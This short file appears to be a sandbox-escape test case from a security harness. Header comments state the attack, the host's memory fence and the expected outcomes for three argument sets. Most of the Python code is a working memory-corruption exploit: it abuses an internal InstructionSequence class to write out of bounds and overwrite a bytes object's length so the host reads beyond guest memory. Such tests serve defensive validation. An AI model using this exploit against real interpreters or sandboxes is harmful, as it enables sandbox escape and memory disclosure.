# attack: hash a bytes object whose length was overwritten, so that the host would read beyond the guest's memory
# fence: the host checks each range of guest memory in one place: outside of it the run traps
# screened: S105
# step: deploy attack ["honest"] => success 'aa404c5de36aba7e'
# step: deploy attack [] => halt TRAP
# step: deploy attack ["dear"] => halt OUT_OF_FUEL
import hashlib

text = b"sha2" * 64
window = bytearray(280)
targets = [text + bytes([i]) for i in range(200)]
target = targets[7]
if args != ["honest"]:
    sequence = next(c for c in object.__subclasses__() if c.__name__ == "InstructionSequence")()
    block = bytes(20)
    at = id(block)
    block = None
    sequence.use_label(0)
    for _ in range(60_000):
        sequence.addop(1, 0, 0, 0, 0, 0)
    offset = (id(window) + 8 - at) >> 2
    sequence.use_label(offset - 2**30 if offset >= 0 else offset)
    found = next(at for at in range(0, 59_000, 4) if window[at : at + 256] == text and window[at + 256] > 7)
    target = targets[window[found + 256]]
    length = 2**31 - 1 if args == ["dear"] else 2**25
    window[found - 8 : found - 4] = length.to_bytes(4, "little")
finish(hashlib.sha256(target).hexdigest()[:16])
